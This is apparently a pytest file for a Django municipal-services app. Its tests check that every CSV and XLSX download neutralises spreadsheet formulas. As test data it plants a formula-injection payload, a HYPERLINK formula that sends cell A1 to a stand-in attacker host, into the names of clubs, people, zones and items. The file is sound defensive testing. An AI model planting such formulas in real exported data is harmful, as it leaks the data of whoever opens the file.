"""Every CSV and XLSX the product lets a user download neutralises spreadsheet formulas.

The demo data is loaded, a formula is planted in the names each file shows (a club, a
family's adult, a zone, a result set, an item of the equipment library), and every
download in the URL conf is fetched: in CSV the cell starts with an apostrophe, in XLSX
it is a text cell and the workbook has no formula at all. A new download in the URL conf
that this test does not know fails it, so it cannot be forgotten.
"""

import csv
import io

import openpyxl
import pytest
from django.urls import URLPattern, URLResolver, get_resolver

ATTACK = '=HYPERLINK("http://angriper.example/?"&A1,"Klikk her")'

# Downloads chosen by a query parameter on a page rather than by a URL of their own.
QUERY_DOWNLOADS = {"lending:stats"}


def _download_patterns(resolver=None, namespace="") -> set[str]:
    found = set()
    for entry in (resolver or get_resolver()).url_patterns:
        if isinstance(entry, URLResolver):
            inner = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
            found |= _download_patterns(entry, inner)
        elif isinstance(entry, URLPattern) and any(
                ext in str(entry.pattern) for ext in ("csv", "xlsx")):
            found.add(f"{namespace}{entry.name}")
    return found


def _csv_cells(response) -> list[str]:
    text = b"".join(response).decode("utf-8-sig") if response.streaming else (
        response.content.decode("utf-8-sig"))
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


def _assert_csv_safe(response):
    assert response.status_code == 200, response.status_code
    cells = _csv_cells(response)
    assert any(c.startswith("'" + ATTACK) for c in cells), "the planted name is not in the file"
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]


def _assert_xlsx_safe(response):
    assert response.status_code == 200, response.status_code
    body = b"".join(response) if response.streaming else response.content
    book = openpyxl.load_workbook(io.BytesIO(body))
    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula in the workbook"
    planted = [c for c in cells if str(c.value).startswith(ATTACK)]
    assert planted, "the planted name is not in the file"
    assert all(c.data_type == "s" and c.quotePrefix for c in planted)


@pytest.fixture
def demo(db):
    import importlib

    from levekar.core.lib.progress import NULL_REPORTER

    # The demo data of the apps whose pages and files are checked here.
    for name in ("core", "people", "stats", "plans", "followup", "lending", "passes",
                 "evaluation"):
        importlib.import_module(f"levekar.{name}.demo").load(reporter=NULL_REPORTER)


def _stats(client):
    from levekar.core.models import Municipality
    from levekar.people.models import Zone
    from levekar.stats.models import ResultSet

    ResultSet.objects.update(source=ATTACK)
    Zone.objects.update(name=ATTACK)
    Municipality.objects.update(name=ATTACK)
    client.force_login(_user("analytiker1"))
    for fmt, check in (("csv", _assert_csv_safe), ("xlsx", _assert_xlsx_safe)):
        check(client.get(f"/kunnskap/kommune/last-ned.{fmt}"))
        check(client.get(f"/kunnskap/soner/last-ned.{fmt}"))


def _holiday_list(client):
    from levekar.passes.models import HolidayOffer, Nomination
    from levekar.people.models import Person

    client.force_login(_user("fritid1"))
    offer = HolidayOffer.objects.filter(nominations__isnull=False).distinct().first()
    assert client.post(f"/fritid/ferie/{offer.pk}/fordel/", {"seed": 5}).status_code == 302
    households = Nomination.objects.filter(offer=offer, status="allocated").values(
        "household_id")
    Person.objects.filter(household__in=households).update(first_name=ATTACK, last_name="")
    _assert_csv_safe(client.get(f"/fritid/ferie/{offer.pk}/liste-tildelt.csv"))


def _refund_export(client):
    from levekar.passes.models import Club, RefundExport

    Club.objects.update(name=ATTACK)
    client.force_login(_user("fritid1"))
    export = RefundExport.objects.first()
    _assert_csv_safe(client.get(f"/fritid/refusjoner/eksport/{export.pk}.csv"))


def _lending_stats(client):
    from django.db.models import CharField, Value
    from django.db.models.functions import Cast, Concat

    from levekar.lending.models import Item
    from levekar.lending.selectors import years_with_loans

    # Item names are unique within a category and size: the attack plus the item's id.
    Item.objects.update(name=Concat(Value(ATTACK), Cast("pk", CharField())))
    client.force_login(_user("utlan1"))
    year = max(years_with_loans())
    base = f"/utstyr/utlan/statistikk/?year={year}"
    _assert_xlsx_safe(client.get(f"{base}&last_ned=xlsx"))
    _assert_csv_safe(client.get(f"{base}&last_ned=csv&tabell=items"))


def _evaluation_outcomes(client):
    # The outcomes are aggregates of data-file labels; the planted name is one more row
    # of the sheet the view hands to the shared writer.
    import pytest

    from levekar.evaluation import exports

    real = exports.outcomes_sheet

    def planted(data):
        sheet = real(data)
        sheet.rows.append([ATTACK] + [""] * (len(sheet.headers) - 1))
        return sheet

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(exports, "outcomes_sheet", planted)
        client.force_login(_user("analytiker1"))
        _assert_csv_safe(client.get("/evaluering/utfall/last-ned.csv"))
        _assert_xlsx_safe(client.get("/evaluering/utfall/last-ned.xlsx"))


def _evaluation_report(client):
    # The report's workbook names the plans of the assessed measures, which a plan
    # owner types.
    from levekar.plans.models import ActionPlan

    ActionPlan.objects.update(title=ATTACK)
    client.force_login(_user("analytiker1"))
    year = __import__("datetime").date.today().year
    _assert_xlsx_safe(client.get(f"/evaluering/rapport/{year}.xlsx"))


def _evaluation_report_job(client):
    # The same workbook made by «Lag rapporten» (the job) and served from its file.
    import tempfile

    from django.test import override_settings

    from levekar.core import jobs
    from levekar.core.models import Job
    from levekar.plans.models import ActionPlan

    ActionPlan.objects.update(title=ATTACK)
    client.force_login(_user("analytiker1"))
    year = __import__("datetime").date.today().year
    with tempfile.TemporaryDirectory() as media, override_settings(MEDIA_ROOT=media):
        assert client.post("/evaluering/rapport/lag/", {"year": year}).status_code == 302
        jobs.run_pending()
        job = Job.objects.filter(name="evaluation.report").latest("pk")
        assert job.status == "done", job.error
        _assert_xlsx_safe(client.get(f"/evaluering/rapport/jobb/{job.pk}/rapport.xlsx"))


def _evaluation_reach(client):
    # The reach table names the zones, which an administrator types.
    from levekar.people.models import Zone

    Zone.objects.update(name=ATTACK)
    client.force_login(_user("analytiker1"))
    _assert_xlsx_safe(client.get("/evaluering/rekkevidde/last-ned.xlsx"))


def _user(username):
    from levekar.core.models import User

    return User.objects.get(username=username)


CASES = {
    "stats:overview_download": _stats,
    "stats:zone_table_download": _stats,
    "passes:offer_list_csv": _holiday_list,
    "passes:refund_export_download": _refund_export,
    "lending:stats": _lending_stats,
    "evaluation:outcomes_download": _evaluation_outcomes,
    "evaluation:report_download": _evaluation_report,
    "evaluation:report_file": _evaluation_report_job,
    "evaluation:reach_download": _evaluation_reach,
}


def test_every_download_in_the_url_conf_is_covered_here():
    assert _download_patterns() | QUERY_DOWNLOADS == set(CASES)


def test_every_csv_and_xlsx_download_neutralises_a_formula_cell(demo, client):
    for check in dict.fromkeys(CASES.values()):
        check(client)
